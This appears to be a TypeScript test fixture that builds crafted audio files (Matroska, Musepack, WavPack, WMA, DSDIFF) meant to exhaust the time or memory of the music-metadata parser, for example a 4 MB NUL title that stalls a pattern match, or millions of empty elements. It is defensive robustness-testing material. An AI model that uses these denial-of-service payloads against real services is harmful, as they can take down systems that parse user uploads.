// Malicious files for music-metadata, which reads WMA, Musepack, WavPack, Matroska and DSDIFF. Without limits, each of
// these makes it use very much time or memory.
import { ascii, u16le, u32, u32le, u64le } from './audio-bytes.ts';

interface FallbackAttack {
  name: string;
  why: string;
  makeFile(): Buffer;
}

const MB = 1 << 20;
const guid = (hex: string): Buffer => Buffer.from(hex, 'hex');
const HEADER = guid('3026b2758e66cf11a6d900aa0062ce6c');
const EXTENSION = guid('b503bf5f2ea9cf118ee300c00c205365');
const EXTENSION_ID = guid('11d2d3abbaa9cf118ee600c00c205365');
const LIBRARY = guid('941c23449894d149a1411d134e457054');

const asfObject = (id: Buffer, body: Buffer): Buffer => Buffer.concat([id, u64le(body.length + 24), body]);
/** Makes an ASF header with one extension that contains these objects. */
function asf(...objects: Buffer[]): Buffer {
  const inner = Buffer.concat(objects);
  const extension = asfObject(EXTENSION, Buffer.concat([EXTENSION_ID, u16le(6), u32le(inner.length), inner]));
  return asfObject(HEADER, Buffer.concat([u32le(1), Buffer.from([1, 2]), extension]));
}
/** Makes ASF tags with four-letter names and empty texts. */
function asfTags(count: number): Buffer {
  const comment = Buffer.concat([
    u16le(0),
    u16le(0),
    u16le(10),
    u16le(0),
    u32le(2),
    Buffer.from('WM/A\0', 'utf16le'),
    Buffer.alloc(2),
  ]);
  return asfObject(LIBRARY, Buffer.concat([u16le(count), Buffer.alloc(comment.length * count, comment)]));
}

/** Makes an EBML element; its size takes eight bytes. */
const ebml = (id: string, ...parts: Buffer[]): Buffer => {
  const body = Buffer.concat(parts);
  return Buffer.concat([Buffer.from(id, 'hex'), Buffer.from([1, 0, 0, 0]), u32(body.length), body]);
};
const matroska = (...parts: Buffer[]): Buffer =>
  Buffer.concat([ebml('1a45dfa3', ebml('4282', ascii('matroska'))), ebml('18538067', ...parts)]);

const wavpackBlock = (index: number, body: Buffer): Buffer =>
  Buffer.concat([
    ascii('wvpk'),
    u32le(24 + body.length),
    u16le(0x410),
    Buffer.alloc(2),
    u32le(44_100),
    u32le(index),
    u32le(0),
    u32le(0x1821),
    u32le(0),
    body,
  ]);

const chunk64 = (name: string): Buffer => Buffer.concat([ascii(name), Buffer.alloc(8)]);

/** Small valid files of these formats, for tests that damage them. */
export const foreignAudio: { name: string; bytes: Buffer }[] = [
  {
    name: 'good.wv',
    bytes: Buffer.concat([wavpackBlock(0, Buffer.alloc(2000)), wavpackBlock(22_050, Buffer.alloc(2000))]),
  },
  {
    name: 'good.mka',
    bytes: matroska(
      ebml('1549a966', ebml('4489', Buffer.from('44fa0000', 'hex')), ebml('7ba9', ascii('Song'))),
      ebml(
        '1654ae6b',
        ebml(
          'ae',
          ebml('d7', Buffer.from([1])),
          ebml('83', Buffer.from([2])),
          ebml('86', ascii('A_VORBIS')),
          ebml('e1', ebml('b5', Buffer.from('472c4400', 'hex')), ebml('9f', Buffer.from([2]))),
        ),
      ),
      ebml('1f43b675', Buffer.alloc(5000)),
    ),
  },
];

export const fallbackAttacks: FallbackAttack[] = [
  {
    name: 'nuls.mka',
    why: 'a title of 4 MB of NULs and a line break, over which a pattern runs for hours',
    makeFile: () => matroska(ebml('1549a966', ebml('7ba9', Buffer.alloc(4 * MB), ascii('\nx')))),
  },
  {
    name: 'voids.mka',
    why: '10 million empty elements',
    makeFile: () => matroska(Buffer.alloc(20 * MB, Buffer.from([0xec, 0x80]))),
  },
  {
    name: 'tracks.mka',
    why: '10 million empty tracks',
    makeFile: () => matroska(ebml('1654ae6b', Buffer.alloc(20 * MB, Buffer.from([0xae, 0x80])))),
  },
  {
    name: 'packets.mpc',
    why: '7 million empty packets',
    makeFile: () => Buffer.concat([ascii('MPCK'), Buffer.alloc(20 * MB, ascii('AP\x03'))]),
  },
  {
    name: 'endless-size.mpc',
    why: 'a size of 50 million digits',
    makeFile: () => Buffer.concat([ascii('MPCKAP'), Buffer.alloc(50 * MB, 0x80)]),
  },
  {
    name: 'blocks.wv',
    why: '600,000 empty blocks',
    makeFile: () => Buffer.alloc(20 * MB, wavpackBlock(1, Buffer.alloc(0))),
  },
  { name: 'sub-blocks.wv', why: '10 million empty sub-blocks', makeFile: () => wavpackBlock(0, Buffer.alloc(20 * MB)) },
  {
    name: 'objects.wma',
    why: '800,000 unknown objects',
    makeFile: () =>
      asf(Buffer.alloc(24 * 800_000, asfObject(guid('00000000000000000000000000000001'), Buffer.alloc(0)))),
  },
  {
    name: 'tags.wma',
    why: '3 million tags',
    makeFile: () => asf(Buffer.alloc(asfTags(60_000).length * 50, asfTags(60_000))),
  },
  {
    name: 'chunks.dff',
    why: '1.7 million empty chunks',
    makeFile: () => {
      const body = Buffer.alloc(20 * MB, chunk64('JUNK'));
      return Buffer.concat([ascii('FRM8'), Buffer.alloc(4), u32(body.length + 4), ascii('DSD '), body]);
    },
  },
];
